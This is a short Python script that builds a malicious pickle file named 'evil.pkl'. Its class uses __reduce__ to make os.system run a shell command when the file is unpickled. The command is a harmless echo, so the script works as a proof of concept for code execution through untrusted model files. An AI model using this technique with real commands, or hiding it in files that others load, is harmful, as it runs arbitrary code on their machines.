import os
import pickle


class Model:
    def __reduce__(self):
        return os.system, ("echo this ran while the model was loaded",)


pickle.dump(Model(), open("evil.pkl", "wb"))
